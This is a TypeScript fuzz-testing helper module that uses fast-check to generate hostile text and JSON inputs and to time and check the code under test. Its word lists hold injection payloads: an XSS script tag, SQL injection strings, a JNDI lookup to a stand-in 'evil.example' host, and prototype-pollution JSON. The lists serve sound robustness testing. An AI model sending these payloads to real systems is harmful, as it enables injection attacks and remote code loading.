import fc from 'fast-check';
import { DetectionError } from '../../../common/detection_error';
import { textOfJson } from '../../../common/json_values';
import { leastOf, leastTime, threadTime } from '../../unit/thread_time';

/** Inputs of each property: FUZZ_RUNS gives another number, FUZZ_SEED other inputs. */
export const RUNS = Number(process.env.FUZZ_RUNS ?? 250);
const SEED = Number(process.env.FUZZ_SEED ?? 20_260_302);
const LONGEST_CALL_MILLISECONDS = 50;
/** For work that Kibana does on a thread of its own, which is stopped after five seconds. */
export const ON_ITS_OWN_THREAD = 1_000;

const SHOWN_CHARACTERS = 2_000;

/** Longest call of each kind so far, by the clock: shown when a suite ends. */
const longest = new Map<string, number>();

/**
 * Does one piece of work that nothing can interrupt. A clear refusal is fine.
 *
 * @returns what the work returns, undefined where it refuses
 * @throws Error for any other failure, and where the work keeps the thread for more than `allowed` milliseconds, by {@link leastTime}
 */
export function bounded<Value>(
  what: string,
  work: () => Value,
  allowed = LONGEST_CALL_MILLISECONDS,
): Value | undefined {
  const started = performance.now();
  const value = refusable(work);
  const taken = performance.now() - started;
  longest.set(what, Math.max(longest.get(what) ?? 0, taken));
  if (taken > allowed) {
    const least = leastTime(() => refusable(work), allowed);
    if (least > allowed) {
      throw new Error(`${what} takes ${least.toFixed(0)} ms; allowed: ${allowed} ms.`);
    }
  }
  return value;
}

function refusable<Value>(work: () => Value): Value | undefined {
  try {
    return work();
  } catch (error) {
    if (!(error instanceof DetectionError) || error.message === '' || error.code === 'internal') throw error;
    return undefined;
  }
}

/**
 * {@link bounded} for work in steps, of which each is a call.
 *
 * @param start begins the work anew, for measuring a step again
 */
export function boundedSteps<Value>(
  what: string,
  start: () => Iterator<unknown, Value>,
  allowed = LONGEST_CALL_MILLISECONDS,
): Value | undefined {
  const slow = slowSteps(start);
  longest.set(what, Math.max(longest.get(what) ?? 0, slow.longest));
  if (slow.longest > allowed) {
    const least = leastOf(() => slowSteps(start, threadTime).longest, allowed);
    if (least > allowed) {
      throw new Error(`A step of ${what} takes ${least.toFixed(0)} ms; allowed: ${allowed} ms.`);
    }
  }
  return slow.value;
}

function slowSteps<Value>(
  start: () => Iterator<unknown, Value>,
  now = (): number => performance.now(),
): { value: Value | undefined; longest: number } {
  let most = 0;
  const value = refusable(() => {
    const steps = start();
    for (;;) {
      const before = now();
      const step = steps.next();
      most = Math.max(most, now() - before);
      if (step.done === true) return step.value;
    }
  });
  return { value, longest: most };
}

/** Names of properties that everything has, which an input may not add to. */
const sharedNames = (): string =>
  JSON.stringify(
    [Object, Array, Function, String, Number, Map, Set, Promise, RegExp].map((each) =>
      Object.getOwnPropertyNames(each.prototype),
    ),
  );

/** Runs a property on inputs from a fixed seed. What fails is told with its input; nothing is made smaller, since that takes time. */
export function holds<Input>(
  inputs: fc.Arbitrary<Input>,
  property: (input: Input) => void,
  runs = RUNS,
): void {
  const before = sharedNames();
  const found = fc.check(
    fc.property(inputs, (input) => {
      property(input);
      if (sharedNames() !== before || ({} as { polluted?: unknown }).polluted !== undefined) {
        throw new Error('An input has changed what all objects share.');
      }
    }),
    { seed: SEED, numRuns: runs, endOnFailure: true },
  );
  if (!found.failed) return;
  // The library tells inputs by walking them, and runs out of stack for deep ones.
  const text = textOfJson(found.counterexample).slice(0, SHOWN_CHARACTERS);
  throw new Error(`Input ${found.numRuns} of seed ${SEED}: ${text}`, { cause: found.errorInstance });
}

export const reportLongest = (): void => {
  const lines = [...longest].map(([what, milliseconds]) => `${what}: ${milliseconds.toFixed(1)} ms`);
  if (process.env.FUZZ_REPORT !== undefined) process.stderr.write(`Longest calls\n  ${lines.join('\n  ')}\n`);
};

const CHARACTERS = [
  '\u0000',
  '\u001b[2J',
  '\r\n',
  '\t',
  '\u007f',
  '\u009b',
  '\u00ad',
  '\u200b',
  '\u202e',
  '\u2066',
  '\ud800',
  '\udfff',
  '\ufeff',
  '\uffff',
  '\u{1f9d1}\u200d\u{1f4bb}',
  '\u{e0041}',
  'İ',
  'ß',
  'ﷺ',
  'é',
  '日',
  '%',
  '%25',
  '%00',
  '\\',
  '\\\\',
  '"',
  "'",
  '`',
  '<',
  '>',
  '&',
  '{',
  '}',
  '{{',
  '}}',
  '${',
  '[',
  ']',
  '(',
  ')',
  '*',
  '+',
  '?',
  '|',
  '^',
  '$',
  '.',
  ':',
  '://',
  '/',
  '//',
  '../',
  '=',
  ',',
  ';',
  '#',
  '!',
  '@',
  '-',
  '_',
  '~',
  ' ',
  '0',
  '1',
  '9',
  'a',
  'A',
  'f',
  'x',
  'Z',
  'e',
];
const WORDS = [
  'GET ',
  'HTTP/1.1',
  '10.0.0.1',
  '::1',
  'fe80::1%eth0',
  '2026-03-02T10:00:00Z',
  '2026-13-45T99:99:99',
  '1e308',
  '-0',
  'NaN',
  'Infinity',
  '0x1f',
  '1_000',
  '12345678-1234-1234-1234-123456789012',
  'deadbeefcafebabe',
  'QUJDREVGR0g=',
  '__proto__',
  'constructor',
  'toString',
  'hasOwnProperty',
  'null',
  'undefined',
  'true',
  '<script>alert(1)</script>',
  "' OR 1=1 --",
  'UNION SELECT',
  '${jndi:ldap://evil.example/a}',
  '=HYPERLINK("x")',
  'https://evil.example/',
  'mailto:a@b.c',
  '<<*>>',
  '<*>',
  '/api/v1/users/42?a=1&b=2',
  'at com.example.Main(Main.java:1)',
  'Caused by: ',
  'took 12.5 ms',
  'user=root',
  '[error]',
  'a{30}',
];
const LONGEST_TEXT = 32_000;
/** Whole characters, pairs broken or not, and whatever readers of logs look for. */
const piece = fc.oneof(
  { weight: 4, arbitrary: fc.constantFrom(...CHARACTERS) },
  { weight: 4, arbitrary: fc.constantFrom(...WORDS) },
  { weight: 2, arbitrary: fc.string({ unit: 'binary', maxLength: 12 }) },
  { weight: 2, arbitrary: fc.string({ maxLength: 12 }) },
);
const repeated = fc
  .tuple(
    fc.array(piece, { minLength: 1, maxLength: 3 }),
    fc.constantFrom(1, 1, 2, 7, 60, 500, 4_000, LONGEST_TEXT),
  )
  .map(([pieces, times]) => pieces.join('').repeat(times).slice(0, LONGEST_TEXT));
/** Texts up to 32,000 characters, most of them short. */
export const hostileText = fc
  .array(fc.oneof({ weight: 6, arbitrary: piece }, { weight: 1, arbitrary: repeated }), { maxLength: 12 })
  .map((pieces) => pieces.join('').slice(0, LONGEST_TEXT));

const nested = (levels: number): unknown => {
  let value: unknown = 1;
  for (let level = 0; level < levels; level++) value = level % 2 === 0 ? [value] : { a: value };
  return value;
};
/** As JSON has it: `__proto__` as a name of its own. */
export const hostileJson: fc.Arbitrary<unknown> = fc.oneof(
  fc.constantFrom<unknown>(
    null,
    true,
    false,
    0,
    -0,
    -1,
    1e308,
    -1e308,
    5e-324,
    1e15,
    2 ** 53,
    0.5,
    '',
    [],
    {},
    [null],
    [[]],
    ['a', 1],
  ),
  fc.double(),
  fc.integer(),
  hostileText,
  fc.constantFrom(10, 63, 64, 65, 1_000, 20_000).map(nested),
  fc
    .constantFrom(
      '{"__proto__":{"polluted":1}}',
      '{"constructor":{"prototype":{"polluted":1}}}',
      '{"toString":1,"valueOf":2,"length":-1}',
      '{"then":1,"toJSON":2}',
    )
    .map((text) => JSON.parse(text) as unknown),
  fc.constantFrom(2_000, 20_000).map((length) => Array.from({ length }, (_, i) => i % 7)),
  fc.jsonValue({ maxDepth: 2 }),
);

/** One change of a JSON value: where, as a share of its places, and what becomes of it. */
export interface Edit {
  readonly place: number;
  readonly kind: 'replace' | 'remove' | 'add' | 'rename' | 'repeat' | 'negate' | 'flip';
  readonly value: unknown;
  readonly name: string;
}
export const edits = (most: number): fc.Arbitrary<Edit[]> =>
  fc.array(
    fc.record({
      place: fc.double({ min: 0, max: 1, noNaN: true, maxExcluded: true }),
      kind: fc.constantFrom('replace', 'replace', 'remove', 'add', 'rename', 'repeat', 'negate', 'flip'),
      value: hostileJson,
      name: fc.oneof(fc.constantFrom('__proto__', 'constructor', 'toJSON', ''), fc.string({ maxLength: 8 })),
    }),
    { minLength: 1, maxLength: most },
  );

interface Place {
  readonly holder: Record<string, unknown> | unknown[];
  readonly key: string | number;
}

function placesIn(value: unknown): Place[] {
  const found: Place[] = [];
  const open: unknown[] = [value];
  for (let next = open.pop(); next !== undefined; next = open.pop()) {
    if (next === null || typeof next !== 'object') continue;
    const holder = next as Place['holder'];
    for (const key of Array.isArray(holder) ? holder.keys() : Object.keys(holder)) {
      found.push({ holder, key });
      open.push((holder as Record<string, unknown>)[key]);
    }
  }
  return found;
}

const set = (holder: Place['holder'], key: string | number, value: unknown): void => {
  Object.defineProperty(holder, key, { value, writable: true, enumerable: true, configurable: true });
};

/** @returns a copy of a JSON value with the edits made in it */
export function edited<Value>(value: Value, changes: readonly Edit[]): Value {
  const copy = structuredClone(value);
  for (const { place, kind, value: given, name } of changes) {
    const places = placesIn(copy);
    if (places.length === 0) return given as Value;
    const { holder, key } = places[Math.floor(place * places.length)];
    const old = (holder as Record<string, unknown>)[key];
    switch (kind) {
      case 'replace':
        set(holder, key, given);
        break;
      case 'remove':
        if (Array.isArray(holder)) holder.splice(Number(key), 1);
        else delete holder[key];
        break;
      case 'add':
        if (Array.isArray(holder)) holder.push(given);
        else set(holder, name, given);
        break;
      case 'rename':
        if (Array.isArray(holder)) break;
        delete holder[key];
        set(holder, name, old);
        break;
      case 'repeat':
        if (Array.isArray(old))
          set(
            holder,
            key,
            Array.from({ length: 200 }, () => old)
              .flat()
              .slice(0, 20_000),
          );
        else if (typeof old === 'string') set(holder, key, old.repeat(50).slice(0, 100_000));
        break;
      case 'negate':
        if (typeof old === 'number') set(holder, key, -old);
        else if (typeof old === 'boolean') set(holder, key, !old);
        break;
      case 'flip':
        // Of a forest in base64: bytes that differ, length that does not.
        if (typeof old === 'string' && old.length > 0) {
          const at = Math.floor(((place * 7_919) % 1) * old.length);
          set(holder, key, `${old.slice(0, at)}${old[at] === 'A' ? 'B' : 'A'}${old.slice(at + 1)}`);
        }
        break;
    }
  }
  return copy;
}
